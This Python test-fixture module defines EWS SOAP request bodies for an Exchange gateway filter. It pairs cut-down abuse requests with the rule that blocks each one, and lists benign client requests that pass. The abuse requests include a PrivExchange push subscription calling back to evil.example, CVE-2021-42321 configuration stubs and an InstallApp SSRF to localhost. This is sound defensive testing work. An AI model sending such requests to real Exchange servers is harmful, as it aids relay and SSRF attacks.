"""What EWS requests ask for: known abuses, and what clients send. One path for all of them; only the body differs.

A source is a repository with its path, or a page. Abuses are cut down to what a gateway can see: no payload works.
"""

from __future__ import annotations

from dataclasses import dataclass

_TYPES = "http://schemas.microsoft.com/exchange/services/2006/types"
_MESSAGES = "http://schemas.microsoft.com/exchange/services/2006/messages"
VERSION = '<t:RequestServerVersion Version="Exchange2016"/>'
INBOX = '<t:DistinguishedFolderId Id="inbox"/>'


@dataclass(frozen=True)
class Body:
    """One request. `rule` is what refuses it, "ews" where it passes."""

    name: str
    source: str
    rule: str
    body: str
    header: str = VERSION

    def __str__(self) -> str:
        return self.name

    def encode(self) -> bytes:
        return (
            '<?xml version="1.0" encoding="utf-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"'
            f' xmlns:m="{_MESSAGES}" xmlns:t="{_TYPES}"><s:Header>{self.header}</s:Header><s:Body>{self.body}</s:Body>'
            "</s:Envelope>"
        ).encode()


def subscribe(kind: str, more: str = "") -> str:
    return (
        f"<m:Subscribe><m:{kind}><t:FolderIds>{INBOX}</t:FolderIds><t:EventTypes><t:EventType>NewMailEvent</t:EventType>"
        f"</t:EventTypes>{more}</m:{kind}></m:Subscribe>"
    )


def configure(operation: str, data: str, name: str = "CategoryList") -> str:
    return (
        f'<m:{operation}><m:UserConfiguration><t:UserConfigurationName Name="{name}">{INBOX}</t:UserConfigurationName>'
        f"{data}</m:UserConfiguration></m:{operation}>"
    )


_MSF = "github.com/rapid7/metasploit-framework modules/exploits/windows/http/exchange_chainedserializationbinder_rce.rb"
_CERT = "https://kb.cert.org/vuls/id/465632/"
_REFERENCE = "https://learn.microsoft.com/en-us/exchange/client-developer/web-service-reference/"
_WSDL = "github.com/jamesiarmes/php-ews src/assets/services.wsdl: "
_PUSH = "<t:StatusFrequency>1</t:StatusFrequency><t:URL>http://evil.example/a</t:URL>"
_DICTIONARY = (
    "<t:Dictionary><t:DictionaryEntry><t:DictionaryKey><t:Type>String</t:Type><t:Value>OrgDO</t:Value></t:DictionaryKey>"
    "<t:DictionaryValue><t:Type>Boolean</t:Type><t:Value>false</t:Value></t:DictionaryValue></t:DictionaryEntry>"
    "</t:Dictionary>"
)
_BINARY = _DICTIONARY + "<t:BinaryData>AAEAAAD/////AQAAAAAAAAA=</t:BinaryData>"

ABUSES: tuple[Body, ...] = (
    Body("PrivExchange", _CERT, "ews-push-subscription", subscribe("PushSubscriptionRequest", _PUSH)),
    Body(
        "PrivExchange beside a pull subscription",
        _CERT + ", a variant of ours",
        "ews-push-subscription",
        subscribe("PullSubscriptionRequest")
        + f"<m:Subscribe><m:PushSubscriptionRequest>{_PUSH}</m:PushSubscriptionRequest></m:Subscribe>",
    ),
    Body(
        "CVE-2021-42321, creating",
        _MSF,
        "ews-binary-configuration",
        configure("CreateUserConfiguration", _BINARY, "ExtensionMasterTable"),
    ),
    Body(
        "CVE-2021-42321, updating",
        _MSF + ", a variant of ours",
        "ews-binary-configuration",
        configure("UpdateUserConfiguration", _BINARY, "ExtensionMasterTable"),
    ),
    Body(
        "CVE-2021-42321, reading",
        _MSF,
        "ews-client-access-token",
        "<m:GetClientAccessToken><m:TokenRequests><t:TokenRequest><t:Id>a</t:Id><t:TokenType>CallerIdentity</t:TokenType>"
        "</t:TokenRequest></m:TokenRequests></m:GetClientAccessToken>",
    ),
    Body(
        "CVE-2026-45502",
        "https://aretiq.ai/research/vul260622-cve-2026-45502-microsoft-exchange-server-ews-installapp-server-side-request-"
        "forgery/ 1",
        "ews-install-app",
        "<m:InstallApp><m:ManifestUrl>http://127.0.0.1:444/</m:ManifestUrl></m:InstallApp>",
    ),
    Body(
        "everybody's mail",
        _WSDL + "SearchMailboxes",
        "ews-ediscovery",
        "<m:SearchMailboxes><m:SearchQueries/></m:SearchMailboxes>",
    ),
    Body(
        "raw items", _WSDL + "UploadItems", "ews-bulk-transfer", "<m:UploadItems><m:Items/></m:UploadItems>"
    ),
    Body("a call", _WSDL + "PlayOnPhone", "ews-play-on-phone", "<m:PlayOnPhone/>"),
    Body(
        "the server's own diagnostics",
        "github.com/OfficeDev/ews-managed-api Core/Requests/ExecuteDiagnosticMethodRequest.cs",
        "ews-diagnostics",
        "<m:ExecuteDiagnosticMethod/>",
    ),
    Body(
        "an answer to elsewhere",
        "WS-Addressing 1.0 core 3.2, ReplyTo",
        "ews-unlisted-header",
        "<m:GetFolder/>",
        VERSION + '<a:ReplyTo xmlns:a="http://www.w3.org/2005/08/addressing"/>',
    ),
)

_DAVMAIL = "github.com/mguessan/davmail src/java/davmail/exchange/ews/"
_EXCHANGELIB = "github.com/ecederstrand/exchangelib exchangelib/services/"
_EVOLUTION = "gitlab.gnome.org/GNOME/evolution-ews src/EWS/common/e-ews-connection.c: "
_EWS_API = "github.com/OfficeDev/ews-managed-api "
_ZONE = '<t:TimeZoneContext><t:TimeZoneDefinition Id="W. Europe Standard Time"/></t:TimeZoneContext>'

REQUESTS: tuple[Body, ...] = (
    Body(
        "DavMail's headers",
        _DAVMAIL + "EWSMethod.java",
        "ews",
        '<m:FindItem Traversal="Shallow"/>',
        VERSION + _ZONE,
    ),
    Body("DavMail without a version", _DAVMAIL + "EWSMethod.java", "ews", "<m:GetFolder/>", ""),
    Body(
        "DavMail's options", _DAVMAIL + "GetUserConfigurationMethod.java", "ews", "<m:GetUserConfiguration/>"
    ),
    Body(
        "exchangelib's stream",
        _EXCHANGELIB + "subscribe.py",
        "ews",
        subscribe("StreamingSubscriptionRequest"),
    ),
    Body(
        "exchangelib's pull",
        _EXCHANGELIB + "subscribe.py",
        "ews",
        subscribe("PullSubscriptionRequest", "<t:Watermark>AQ==</t:Watermark><t:Timeout>10</t:Timeout>"),
    ),
    Body(
        "exchangelib's configuration",
        _EXCHANGELIB + "update_user_configuration.py",
        "ews",
        configure("UpdateUserConfiguration", _DICTIONARY + "<t:XmlData>PGEvPg==</t:XmlData>"),
    ),
    Body(
        "Evolution's free and busy",
        _EVOLUTION + "GetUserAvailabilityRequest",
        "ews",
        "<m:GetUserAvailabilityRequest/>",
    ),
    Body("Evolution's zones", _EVOLUTION + "GetServerTimeZones", "ews", "<m:GetServerTimeZones/>"),
    Body(
        "all headers of the Managed API",
        _EWS_API + "Core/Requests/ServiceRequestBase.cs: WriteToXml",
        "ews",
        "<m:GetItem/>",
        f"{VERSION}{_ZONE}<t:MailboxCulture>de-DE</t:MailboxCulture><t:DateTimePrecision>Milliseconds</t:DateTimePrecision>",
    ),
    Body(
        "Skype's contacts",
        _REFERENCE + "removecontactfromimlist-operation",
        "ews",
        "<m:RemoveContactFromImList><m:ContactId/></m:RemoveContactFromImList>",
    ),
    Body(
        "a delegate's folder",
        "MS-OXWSDLGM 1.3",
        "ews",
        '<m:FindItem Traversal="Shallow"><m:ParentFolderIds><t:DistinguishedFolderId Id="inbox"><t:Mailbox>'
        "<t:EmailAddress>boss@contoso.lab</t:EmailAddress></t:Mailbox></t:DistinguishedFolderId></m:ParentFolderIds>"
        "</m:FindItem>",
    ),
)
